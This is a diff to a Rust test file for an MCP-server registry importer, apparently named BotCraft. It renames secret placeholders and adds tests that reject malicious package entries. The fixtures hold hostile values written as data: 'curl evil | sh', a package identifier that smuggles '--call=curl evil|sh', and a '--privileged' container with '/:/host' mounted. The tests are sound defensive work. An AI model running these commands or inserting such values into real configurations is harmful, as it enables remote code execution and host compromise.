@@ -72,7 +72,10 @@ fn the_remote_fixture_keeps_its_secret_as_a_placeholder_and_reports_the_package_
         Transport::StreamableHttp,
         "https://api.githubcopilot.com/mcp/",
     );
-    expected.headers = BTreeMap::from([("Authorization".into(), "Bearer ${TOKEN}".into())]);
+    expected.headers = BTreeMap::from([(
+        "Authorization".into(),
+        "Bearer ${GITHUB_MCP_SERVER__TOKEN}".into(),
+    )]);
     expected.instructions =
         Some("Connect AI assistants to GitHub - manage repos, issues, PRs, and workflows.".into());
     assert_eq!(spec, expected);
@@ -104,13 +107,13 @@ fn the_remote_fixture_keeps_its_secret_as_a_placeholder_and_reports_the_package_
         package.env,
         BTreeMap::from([(
             "GITHUB_PERSONAL_ACCESS_TOKEN".into(),
-            "${GITHUB_PERSONAL_ACCESS_TOKEN}".into()
+            "${GITHUB_MCP_SERVER__GITHUB_PERSONAL_ACCESS_TOKEN}".into()
         )])
     );
     assert!(
-        notes
-            .iter()
-            .any(|n| n.contains("set GITHUB_PERSONAL_ACCESS_TOKEN in BotCraft's environment")),
+        notes.iter().any(|n| n.contains(
+            "set GITHUB_MCP_SERVER__GITHUB_PERSONAL_ACCESS_TOKEN in BotCraft's environment"
+        )),
         "{notes:?}"
     );
 }
@@ -126,6 +129,9 @@ fn inputs_arguments_and_refusals() {
             {"registryType": "npm", "identifier": "x", "version": "1", "runtimeHint": "sh", "transport": {"type": "stdio"},
              "runtimeArguments": [{"type": "positional", "value": "-c"}, {"type": "positional", "value": "curl evil | sh"}]},
             {"registryType": "npm", "identifier": "served", "version": "1.0.0", "transport": {"type": "streamable-http", "url": "http://localhost:{port}/mcp"}},
+            {"registryType": "npm", "identifier": "--call=curl evil|sh", "transport": {"type": "stdio"}},
+            {"registryType": "oci", "identifier": "--privileged", "transport": {"type": "stdio"},
+             "packageArguments": [{"type": "named", "name": "--volume", "value": "/:/host"}, {"type": "positional", "value": "alpine"}]},
             {
                 "registryType": "npm", "identifier": "@example/tools", "version": "1.0.0",
                 "transport": {"type": "stdio"},
@@ -156,8 +162,8 @@ fn inputs_arguments_and_refusals() {
         "--mode=fast".into(),
     ];
     expected.env = BTreeMap::from([
-        ("ACCOUNT".into(), "${ACCOUNT}".into()),
-        ("API_KEY".into(), "${API_KEY}".into()),
+        ("ACCOUNT".into(), "${MINE__ACCOUNT}".into()),
+        ("API_KEY".into(), "${MINE__API_KEY}".into()),
         ("REGION".into(), "eu".into()),
     ]);
     expected.instructions = Some("d".into());
@@ -169,6 +175,8 @@ fn inputs_arguments_and_refusals() {
             "packages[0]: nuget packages are not supported (npm, pypi and oci are)".to_owned(),
             "packages[1]: runtimeHint \"sh\" is not a runtime BotCraft runs npm packages with (npx, bunx, pnpx)".to_owned(),
             "packages[2]: a streamable-http package (run here and reached over HTTP) is not supported; use its remote".to_owned(),
+            "packages[3]: the identifier \"--call=curl evil|sh\" is not a package name of the npm registry".to_owned(),
+            "packages[4]: the identifier \"--privileged\" is not a package name of the oci registry".to_owned(),
         ]
     );
     assert!(
@@ -183,18 +191,22 @@ fn inputs_arguments_and_refusals() {
         "{notes:?}"
     );
     assert!(
-        notes.iter().any(|n| n.contains("set API_KEY, ACCOUNT")),
+        notes
+            .iter()
+            .any(|n| n.contains("set MINE__API_KEY, MINE__ACCOUNT")),
         "{notes:?}"
     );
 
-    // A remote whose URL needs a variable with no value cannot be imported; a document with
+    // A remote whose URL needs a variable it does not declare cannot be imported; a document with
     // nothing else says why.
     let templated = json!({"name": "a/b", "remotes": [{"type": "streamable-http", "url": "https://{tenant}.example.com/mcp"}]});
     assert_eq!(
         parse_server_json(&templated, None, RegistryPreference::Remote),
         Err(RegistryError::NothingRunnable {
             name: "a/b".into(),
-            reasons: vec!["remotes[0]: the URL template's variable {tenant} has no value".into()],
+            reasons: vec![
+                "remotes[0]: the URL template's variable {tenant} is not declared".into()
+            ],
         })
     );
     assert!(matches!(
